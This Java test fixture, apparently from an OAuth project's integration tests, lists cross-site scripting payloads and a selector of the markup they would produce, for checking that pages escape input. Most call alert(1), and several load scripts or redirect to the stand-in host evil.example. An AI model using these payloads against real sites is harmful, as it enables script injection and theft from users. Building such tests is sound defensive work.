// SPDX-License-Identifier: Apache-2.0
package org.winekey.oauth.itests.house;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URLEncoder;
import java.util.List;
import java.util.stream.Stream;

/** Texts that would run a script or fetch something if a page took them for markup. Most open a dialog or ask evil.example. */
final class Markup {
    /** What none of our pages has by itself and some of the texts would make. */
    static final String MADE =
            "img, svg, iframe, frameset, script, math, b, object, embed, base, style, template, video, audio, details,"
                    + " marquee, dialog, portal, meta[http-equiv], link[href*='evil'], form[action*='evil'], [style], [srcdoc], [onfocus],"
                    + " [onload], [onerror], [onclick], [onmouseover], [ontoggle], [onpointerenter], [onanimationstart], [autofocus],"
                    + " a[href*='alert'], a[href*='evil']";

    private static final List<String> TAGS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<script/x>alert(1)</script/>",
            "<script\n>alert(1)</script\n>",
            "<img src=x onerror=alert(1)>",
            "<img/src='x'/onerror='alert(1)'>",
            "<img src=//evil.example/x.png>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:alert(1)><text y=9>continue</text></a></svg>",
            "<math><mtext></p><style><img src=x onerror=alert(1)>",
            "<math><mglyph><style><!--</style><img src=x onerror=alert(1)>-->",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<iframe src=javascript:alert(1)>",
            "<object data=data:text/html,<script>alert(1)</script>>",
            "<embed src=//evil.example/x.swf>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<body onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<template><script>alert(1)</script></template>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import'//evil.example/x.css'</style>",
            "<p style='background:url(//evil.example/x.png)'>",
            "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>",
            "<form action=https://evil.example/><button>continue</button>",
            "<a href=javascript:alert(1)>continue</a>",
            "<a href='java&#9;script&colon;alert(1)'>continue</a>");

    private static final List<String> WAYS_OUT = List.of(
            "\"><svg onload=alert(1)>",
            "'><svg onload=alert(1)>",
            "`><svg onload=alert(1)>",
            "\" autofocus onfocus=alert(1) x=\"",
            "' autofocus onfocus=alert(1) x='",
            "x onpointerenter=alert(1) ",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<img src=x onerror=alert(1)//",
            "<<script>alert(1)//<</script>");

    private static final List<String> OTHER_READINGS = List.of(
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "javascript:alert(1)",
            "JaVaScRiPt://evil.example/%0aalert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62alert(1)&#x3c/script&#x3e",
            "&ltscript&gtalert(1)&lt/script&gt",
            "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}#{alert(1)}<%= alert(1) %>",
            "{}{0}%s%1$s<b onmouseover=alert(1)>",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "\u202E<b onmouseover=alert(1)>\u0000\r\nX: y");

    /** No text in UTF-8: overlong, cut off, alone, in pieces. */
    private static final List<String> BROKEN = List.of(
            "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
            "%E0%80%BCimg%20src=x%20onerror=alert(1)%E0%80%BE",
            "%E2%3Csvg%20onload=alert(1)%3E",
            "%ED%A0%80%3Cb%20onmouseover=alert(1)%3E",
            "%FF%FE%3C%00s%00v%00g%00%3E%00");

    private Markup() {}

    /** Those that make something when a page takes them for text or for the value of an attribute, and escapes nothing. */
    static List<String> unescaped() {
        return Stream.concat(TAGS.stream(), WAYS_OUT.stream()).toList();
    }

    /** All of them, encoded for a query. */
    static List<String> inQueries() {
        var texts = Stream.of(TAGS, WAYS_OUT, OTHER_READINGS)
                .flatMap(List::stream)
                .map(text -> URLEncoder.encode(text, UTF_8));
        return Stream.concat(texts, BROKEN.stream()).toList();
    }
}
